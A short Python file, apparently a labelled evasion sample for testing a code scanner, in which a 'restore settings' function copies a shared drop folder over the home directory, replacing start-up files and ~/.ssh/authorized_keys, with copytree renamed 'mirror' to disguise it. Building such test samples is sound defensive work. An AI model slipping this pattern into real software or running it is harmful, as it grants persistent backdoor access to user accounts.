# Evasion: "restores settings" by copying a folder from a shared drop
# location over the home directory, replacing start-up files and
# ~/.ssh/authorized_keys with whatever the drop holds.
# Hides as: copytree imported by a bare name under another name (mirror)
# and the destination given as the dst= keyword, Path.home().
from pathlib import Path
from shutil import copytree as mirror

DROP = Path("/srv/shared/settings-sync/current")


def restore():
    mirror(DROP, dst=Path.home(), dirs_exist_ok=True)
    return sum(1 for _ in DROP.rglob("*"))


if __name__ == "__main__":
    print(restore(), "settings files restored")
